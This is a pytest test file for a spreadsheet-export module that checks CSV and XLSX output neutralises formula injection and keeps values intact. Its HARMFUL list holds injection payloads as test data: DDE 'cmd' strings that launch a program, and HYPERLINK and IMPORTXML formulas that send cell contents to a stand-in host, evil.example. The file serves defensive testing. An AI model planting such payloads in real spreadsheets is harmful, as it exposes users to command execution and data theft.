"""Files for spreadsheets run nothing, lose nothing, and leave numbers and dates what they are."""

import csv
import io
import os
import subprocess
import sys
import tempfile
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from talking_together.core.spreadsheets import LONGEST_CELL, csv_of, harmless, xlsx_of

ROOT = Path(__file__).parents[3]
HARMFUL = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '=IMPORTXML("http://evil.example","//a")',
    "+SUM(A1:A9)",
    "+44-7700-900123",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "- none",
    "--",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@mention",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "  =1+1",
    "\u00a0=1+1",
    "\u2003@SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0dA1",
    "\uff20SUM(1)",
]
HARMLESS = [
    "-5",
    "-5.2%",
    "-1,234.50",
    "- 5",
    "-£1,200.50",
    "-.5",
    "-5e3",
    "+1.5E-3",
    "+44 7700 900123",
    "+447700900123",
    "-",
    "2026-03-04",
    "04/03/2026",
    "4.3.2026",
    "12-3",
    "Sam O'Neill-Jones",
    "O’Brien = O'Brien",
    '"quoted"',
    '"=1+1"',
    "'=1+1",
    "a@b.example",
    "Zoë Łukasz 李 🙂",
    "one, two; three",
    "",
    " ",
    "#hashtag",
    "50%",
    "_x003D_1+1",
]


def read_csv(file: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))


def written(*cells: Any) -> list[str]:
    return read_csv(b"".join(csv_of(["Heading"], [cells])))[1]


def sheet_of(*cells: Any, title: str = "People", headings: tuple[str, ...] = ("Heading",)) -> Any:
    return openpyxl.load_workbook(io.BytesIO(xlsx_of(title, headings, [cells]))).active


@pytest.mark.parametrize("text", HARMFUL, ids=ascii)
def test_a_csv_cell_that_would_run_is_shown_as_text(text: str) -> None:
    assert harmless(text) == f"'{text}"
    # What no file can hold has become a space.
    assert written(text) == ["'" + text.replace("\x00", " ")]


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_a_csv_cell_that_runs_nothing_is_left_alone(text: str) -> None:
    assert harmless(text) == text
    assert written(text, "end") == [text, "end"]


@pytest.mark.parametrize("text", [*HARMFUL, *HARMLESS, "#N/A", "#REF!", "#NAME?"], ids=ascii)
def test_an_xlsx_cell_of_text_is_text_whatever_it_begins_with(text: str) -> None:
    cell = sheet_of(text)["A2"]
    assert cell.data_type == "s" if text else cell.value is None
    assert (cell.value or "") == text.replace("\x00", " ")


def test_text_that_looks_like_a_formula_stays_text_when_it_is_edited() -> None:
    sheet = sheet_of("=1+1", "plain", "-5")
    assert [bool(sheet.cell(2, place).quotePrefix) for place in (1, 2, 3)] == [True, False, True]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("a\t@SUM(1)", "a\t'@SUM(1)"),
        ("\t=1+1", "'\t'=1+1"),
        (";=1+1", ";'=1+1"),
        ("one; -two", "one; '-two"),
        ("a;b", "a;b"),
    ],
)
def test_nothing_begins_where_another_country_ends_a_cell(text: str, safe: str) -> None:
    assert harmless(text) == safe


def test_numbers_and_dates_stay_numbers_and_dates() -> None:
    at = datetime(2026, 7, 1, 11, 30, tzinfo=UTC)
    values = (-5, 0, 3.25, -0.5, True, date(2026, 3, 4), at, None)
    assert written(*values) == ["-5", "0", "3.25", "-0.5", "True", "2026-03-04", "2026-07-01 12:30", ""]
    cells = sheet_of(*values)[2]
    assert [cell.value for cell in cells] == [
        -5, 0, 3.25, -0.5, True, datetime(2026, 3, 4), datetime(2026, 7, 1, 12, 30),  # noqa: DTZ001
    ]  # fmt: skip
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "n", "b", "d", "d"]


def test_what_a_workbook_has_no_value_for_is_text_or_nothing() -> None:
    values = (float("nan"), float("inf"), date(1850, 1, 1), Decimal("-1.10"), ["a"])
    assert written(*values) == ["", "", "1850-01-01", "-1.10", "['a']"]
    assert [cell.value for cell in sheet_of(*values)[2]] == [None, None, "1850-01-01", "-1.10", "['a']"]


@pytest.mark.parametrize("letter", ["x", "é", "🙂"])
def test_text_longer_than_a_cell_is_shortened_and_says_so(letter: str) -> None:
    long = letter * 40_000
    for text in (written(long)[0], sheet_of(long)["A2"].value):
        assert text.endswith(f"{letter}…")
        assert LONGEST_CELL - 2 <= len(text.encode("utf-16-le")) // 2 <= LONGEST_CELL
    exact = "x" * LONGEST_CELL
    assert written(exact) == [exact]
    assert sheet_of(exact)["A2"].value == exact


def test_characters_that_no_file_can_hold_become_spaces() -> None:
    text = "a\x00b\x07c\x1bd\ud800e\ufffff"
    assert written(text) == ["a b c d e f"]
    assert sheet_of(text)["A2"].value == "a b c d e f"


def test_lines_and_quotes_within_a_cell_survive() -> None:
    text = 'He said "no",\nand left'
    assert written(text, "next") == [text, "next"]
    assert sheet_of(text)["A2"].value == text


def test_headings_are_text_too() -> None:
    assert read_csv(b"".join(csv_of(["=1+1", "Name"], [])))[0] == ["'=1+1", "Name"]
    sheet = sheet_of(headings=("=1+1", "Name"))
    assert [(cell.value, cell.data_type, cell.font.bold) for cell in sheet[1]] == [
        ("=1+1", "s", True),
        ("Name", "s", True),
    ]
    assert sheet.freeze_panes == "A2"


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("People", "People"),
        ("A/B: [c]*?\\", "A B   c"),
        ("'quoted'", "quoted"),
        ("History", "Sheet"),
        ("", "Sheet"),
        ("x" * 60, "x" * 31),
    ],
)
def test_a_sheet_has_a_name_that_spreadsheets_take(title: str, name: str) -> None:
    assert sheet_of("a", title=title).title == name


def test_a_long_csv_comes_in_pieces_and_reads_back_whole() -> None:
    rows = [[f"Person {place}", "-5", "=1"] for place in range(20_000)]
    pieces = list(csv_of(["Name", "Number", "Text"], iter(rows)))
    assert len(pieces) > 5
    assert max(map(len, pieces)) < 80_000
    back = read_csv(b"".join(pieces))
    assert len(back) == 20_001
    assert back[-1] == ["Person 19999", "-5", "'=1"]


def test_a_workbook_holds_no_formula_and_no_link_to_anywhere() -> None:
    file = xlsx_of("People", ["Text"], [[text] for text in HARMFUL])
    with zipfile.ZipFile(io.BytesIO(file)) as parts:
        assert not [name for name in parts.namelist() if "externalLink" in name or "vba" in name.lower()]
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


def test_a_process_that_has_to_do_with_no_workbook_does_not_hold_what_reads_them() -> None:
    check = "import sys, wsgi; sys.exit('openpyxl' in sys.modules)"
    with tempfile.TemporaryDirectory() as folder:
        environment = {**os.environ, "DEMO": "1", "INSTANCE": folder}
        environment.pop("DATABASE_URL", None)
        done = subprocess.run([sys.executable, "-c", check], cwd=ROOT, env=environment, check=False)
    assert done.returncode == 0
